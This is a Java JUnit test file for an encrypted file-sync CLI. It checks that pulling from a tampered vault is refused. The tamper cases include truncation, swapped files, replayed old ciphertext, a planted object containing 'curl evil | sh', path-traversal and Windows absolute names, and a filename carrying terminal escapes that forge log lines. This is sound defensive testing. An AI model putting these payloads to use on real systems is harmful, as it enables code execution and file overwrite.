package io.encsync.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.encsync.core.keys.SecretBytes;
import io.encsync.core.store.ContentSource;
import io.encsync.core.store.LocalStore;
import io.encsync.core.manifest.CryptConfig;
import io.encsync.core.manifest.CryptContext;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Each test is one attack on a pushed remote, run through the CLI as a real process. In every
 * case pull must exit 4, name the affected path, not write it, restore the untouched files, and
 * touch nothing outside the target.
 */
class TamperCliTest {
    private static final String PASSWORD = "tamper-test-password";
    private static final int BLOCK = 65536;

    @TempDir
    Path tmp;
    Path src;
    Path vault;
    Path target;
    Path outside;
    CliProcess cli;

    @BeforeEach
    void pushATree() {
        src = tmp.resolve("src");
        vault = tmp.resolve("vault");
        target = tmp.resolve("restore/target");
        outside = tmp.resolve("restore/outside");
        Trees.write(outside, "keep.txt", "must stay untouched");
        Trees.write(src, "three-blocks.bin", Trees.bytes(3 * BLOCK, 1));
        Trees.write(src, "same-a.txt", "AAAAAAAAAAAAAAAAAAAA");
        Trees.write(src, "same-b.txt", "BBBBBBBBBBBBBBBBBBBB");
        Trees.write(src, "notes/plain.txt", "an untouched file");
        cli = new CliProcess().password(PASSWORD);
        assertThat(cli.run("push", src.toString(), vault.toString()).exitCode()).isZero();
    }

    private CryptContext context() {
        return CryptContext.open(CryptConfig.builder().password(SecretBytes.utf8(PASSWORD)).build(), 1);
    }

    private Path object(String plaintextPath) {
        try (CryptContext ctx = context()) {
            return vault.resolve(ctx.names().encryptFileName(plaintextPath));
        }
    }

    /** Writes a correctly encrypted object for {@code plaintextPath} that no manifest lists (needs the password). */
    private void plantObject(String plaintextPath, byte[] content) {
        try (CryptContext ctx = context(); LocalStore store = LocalStore.open(vault)) {
            byte[] nonce = ctx.contentCipher().newNonce();
            store.put(ctx.names().encryptFileName(plaintextPath), new ContentSource() {
                @Override
                public long length() {
                    return io.encsync.core.cipher.ContentCipher.encryptedSize(content.length);
                }

                @Override
                public InputStream open() {
                    return ctx.contentCipher().encryptingStream(new ByteArrayInputStream(content), nonce);
                }
            }, Instant.now());
        }
    }

    /** Pulls and checks the common promises; returns the result for attack-specific checks. */
    private CliProcess.Result pullExpectingRefusal(String... affected) {
        Map<String, Trees.Entry> outsideBefore = Trees.snapshot(outside);
        CliProcess.Result r = cli.run("pull", vault.toString(), target.toString());

        assertThat(r.exitCode()).as(r.toString()).isEqualTo(4);
        for (String path : affected) {
            assertThat(r.stderr()).as(r.toString()).contains(path);
        }
        assertThat(r.stderr()).doesNotContain("Exception");
        Map<String, Trees.Entry> restored = Trees.snapshot(target);
        for (String path : affected) {
            assertThat(restored).doesNotContainKey(path);
        }
        assertThat(restored).containsEntry("notes/plain.txt", Trees.snapshot(src).get("notes/plain.txt"));
        assertThat(Trees.allPaths(target)).noneMatch(p -> p.contains("encsync-tmp"));
        assertThat(Trees.snapshot(outside)).isEqualTo(outsideBefore);
        assertThat(Trees.allPaths(tmp.resolve("restore"))).allMatch(p -> p.isEmpty() || p.startsWith("target") || p.startsWith("outside"));
        return r;
    }

    @Test
    void truncatedAtABlockBoundary() throws IOException {
        Path obj = object("three-blocks.bin");
        byte[] whole = Files.readAllBytes(obj);
        Files.write(obj, java.util.Arrays.copyOf(whole, 32 + 2 * (BLOCK + 16)));   // still a valid rclone file
        pullExpectingRefusal("three-blocks.bin");
    }

    @Test
    void twoSameSizeFilesSwapped() throws IOException {
        Path a = object("same-a.txt");
        Path b = object("same-b.txt");
        byte[] aBytes = Files.readAllBytes(a);
        Files.write(a, Files.readAllBytes(b));
        Files.write(b, aBytes);
        pullExpectingRefusal("same-a.txt", "same-b.txt");
    }

    @Test
    void anOlderVersionPutBack() throws IOException {
        Path obj = object("same-a.txt");
        byte[] old = Files.readAllBytes(obj);
        Trees.write(src, "same-a.txt", "aaaaaaaaaaaaaaaaaaaa".getBytes(java.nio.charset.StandardCharsets.UTF_8), Instant.parse("2025-05-05T05:05:05Z"));
        assertThat(cli.run("push", src.toString(), vault.toString()).exitCode()).isZero();
        Files.write(obj, old);                                          // replay: a valid ciphertext, but stale
        pullExpectingRefusal("same-a.txt");
    }

    @Test
    void aFileDeleted() throws IOException {
        Files.delete(object("same-b.txt"));
        CliProcess.Result r = pullExpectingRefusal("same-b.txt");
        assertThat(r.stderr()).containsIgnoringCase("missing");
    }

    @Test
    void aFileAddedByAPasswordHolderButNotListed() {
        plantObject("planted.sh", "curl evil | sh".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        CliProcess.Result r = pullExpectingRefusal("planted.sh");
        assertThat(r.stderr()).contains("manifest");
    }

    @Test
    void aNameThatDecryptsToDotDot() {
        plantObject("../escaped.txt", "outside!".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        pullExpectingRefusal("..");
        assertThat(tmp.resolve("restore/escaped.txt")).doesNotExist();
    }

    @Test
    void namesThatDecryptToAbsoluteWindowsPaths() {
        plantObject("C:\\Windows\\evil.txt", "x".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        plantObject("\\\\server\\share\\evil.txt", "x".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        CliProcess.Result r = pullExpectingRefusal();
        assertThat(r.stderr()).contains("C:").contains("server");
        assertThat(Trees.snapshot(target).keySet()).noneMatch(p -> p.contains("evil"));
    }

    @Test
    void aNameWithAControlCharacter() {
        plantObject("log\u001b[2Jforged\nFinished: SUCCESS.txt", "x".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        CliProcess.Result r = pullExpectingRefusal();
        assertThat(r.stderr()).doesNotContain("\u001b").doesNotContain("\nFinished: SUCCESS").contains("forged");
        assertThat(Trees.snapshot(target).keySet()).noneMatch(p -> p.contains("forged"));
    }

    @Test
    void aSymlinkInTheDestinationPointingOutside() throws IOException {
        Files.createDirectories(target);
        Files.createSymbolicLink(target.resolve("notes"), outside);     // notes/plain.txt would land outside
        Map<String, Trees.Entry> outsideBefore = Trees.snapshot(outside);

        CliProcess.Result r = cli.run("pull", vault.toString(), target.toString());

        assertThat(r.exitCode()).as(r.toString()).isEqualTo(4);
        assertThat(r.stderr()).contains("notes").containsIgnoringCase("symlink");
        assertThat(Trees.snapshot(outside)).isEqualTo(outsideBefore);
        assertThat(outside.resolve("plain.txt")).doesNotExist();
        assertThat(Trees.snapshot(target).keySet()).contains("three-blocks.bin", "same-a.txt", "same-b.txt");
    }

    @Test
    void theUntamperedRemoteStillPullsCleanly() {
        CliProcess.Result r = cli.run("pull", vault.toString(), target.toString());
        assertThat(r.exitCode()).as(r.toString()).isZero();
        Map<String, Trees.Entry> expected = new TreeMap<>(Trees.snapshot(src));
        assertThat(Trees.snapshot(target)).isEqualTo(expected);
        assertThat(List.copyOf(Trees.snapshot(outside).keySet())).containsExactly("keep.txt");
    }
}
